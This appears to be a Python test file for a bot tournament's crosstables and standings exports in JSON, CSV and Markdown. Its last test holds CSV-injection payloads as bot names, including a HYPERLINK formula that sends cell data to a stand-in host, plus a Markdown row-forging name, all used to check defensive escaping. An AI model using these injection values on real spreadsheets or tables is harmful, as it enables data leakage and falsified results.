"""Crosstables and the data formats of the standings (arena/tournament/standings.py,
formats.py), from stored-row values built by hand."""

from __future__ import annotations

import csv
import io
import json

from arena.tournament import formats
from arena.tournament.standings import crosstable, standings
from arena.tournament.store import MatchRow


def _row(i: int, bot0: str, bot1: str, winner: int | None, variant: str = "argentine-1v1",
         points: tuple[int, int] = (15, 9)) -> MatchRow:
    return MatchRow(f"t:{i}", variant, bot0, bot1, "normal" if winner is not None else "timeout",
                    winner, None, points[0], points[1], (0, 0))


ROWS = [
    _row(0, "a", "b", 0),
    _row(1, "b", "a", 1),
    _row(2, "a", "b", None, points=(3, 3)),
    _row(3, "a", "c", 1),
    _row(4, "b", "c", 0, variant="mineiro-1v1"),
]


def test_crosstable_cells_mirror_each_other_and_count_no_winner_as_half() -> None:
    """a beat b twice and one match had no winner: a's cell against b is 3 played, 2-0,
    score 5/6, and b's cell against a the mirror; pairs that never met have no cell; a
    variant filter keeps only that variant's matches."""
    table = crosstable(ROWS)
    ab, ba = table["a"]["b"], table["b"]["a"]
    assert (ab.matches, ab.wins, ab.losses) == (3, 2, 0)
    assert (ba.matches, ba.wins, ba.losses) == (3, 0, 2)
    assert ab.score == 5 / 6
    assert ab.points_for == ba.points_against == 15 + 9 + 3  # the row bot's points each time
    assert table["c"]["b"].matches == 1  # in mineiro-1v1
    assert set(crosstable(ROWS, "argentine-1v1")["c"]) == {"a"}


def test_formats_say_the_same_thing() -> None:
    """The standings rows are ranked best first; JSON keeps numbers and a missing rating as
    null, CSV round-trips the same rows (null as an empty cell), Markdown escapes a pipe in
    a bot's name; the grid marks the diagonal and leaves pairs that never met blank."""
    lines = standings(ROWS)
    rows = formats.standings_rows(lines)
    assert [r["rank"] for r in rows] == list(range(1, len(rows) + 1))
    assert rows[0]["bot"] == lines[0].bot
    decoded = json.loads(formats.to_json({"t": {"standings": rows}}))
    assert decoded["t"]["standings"] == rows
    text = formats.to_csv("t: overall", rows)
    assert text.startswith("# t: overall\n")
    parsed = list(csv.DictReader(io.StringIO(text.split("\n", 1)[1])))
    assert [p["bot"] for p in parsed] == [r["bot"] for r in rows]
    assert [int(p["won"]) for p in parsed] == [r["won"] for r in rows]
    piped = formats.to_markdown("x", [{"bot": "a|b", "won": 1}])
    assert "| a\\|b | 1 |" in piped
    order = [line.bot for line in lines]
    grid = formats.crosstable_grid(crosstable(ROWS, "argentine-1v1"), order)
    assert grid[0] == ["bot", *order]
    for i, bot in enumerate(order, 1):
        assert grid[i][0] == bot
        assert grid[i][i] == "x"
    b_row = grid[1 + order.index("b")]
    assert b_row[1 + order.index("c")] == ""  # b and c never met in argentine-1v1


def test_a_bots_name_is_text_in_a_spreadsheet_and_one_row_in_markdown() -> None:
    """A name a spreadsheet would run as a formula (=, +, -, @ first: CSV injection, hostile
    review round 5's `=HYPERLINK(...)`) is written behind a ' in CSV, numbers stay numbers;
    a name holding a line break stays one Markdown row (it forged a row of a published
    table)."""
    rows = [{"bot": '=HYPERLINK("http://x/?"&B2,"ok")', "won": -1},
            {"bot": "@SUM(A1)", "won": 3}, {"bot": "plain-name", "won": 0}]
    parsed = list(csv.DictReader(io.StringIO(formats.to_csv("t", rows).split("\n", 1)[1])))
    assert [p["bot"] for p in parsed] == [
        "'=HYPERLINK(\"http://x/?\"&B2,\"ok\")", "'@SUM(A1)", "plain-name"]
    assert [int(p["won"]) for p in parsed] == [-1, 3, 0]
    forged = formats.to_markdown("x", [{"bot": "evil\n| 1 | fake | 99", "won": 1}])
    assert forged.count("\n|") == 3  # header, rule and one row
    assert "| evil \\| 1 \\| fake \\| 99 | 1 |" in forged
